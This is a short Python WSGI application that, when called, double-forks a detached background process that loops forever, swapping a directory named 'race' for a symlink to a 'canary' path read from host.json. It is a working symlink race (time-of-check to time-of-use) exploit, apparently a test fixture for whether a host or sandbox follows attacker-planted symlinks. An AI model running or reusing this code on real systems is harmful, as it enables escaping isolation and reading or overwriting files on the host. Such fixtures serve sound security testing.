import contextlib
import json
import os
from pathlib import Path

HOST = json.loads(Path("host.json").read_text())


def app(environ, start_response):
    if os.fork() == 0:
        os.setsid()
        if os.fork():
            os._exit(0)
        while True:
            with contextlib.suppress(OSError):
                os.mkdir("race")
                open("race/file", "w").close()
            with contextlib.suppress(OSError):
                os.rename("race", "away")
                os.symlink(HOST["canary"], "race")
                os.unlink("race")
                os.rename("away", "race")
    start_response("200 OK", [("Content-Type", "text/plain")])
    return [b"ok"]
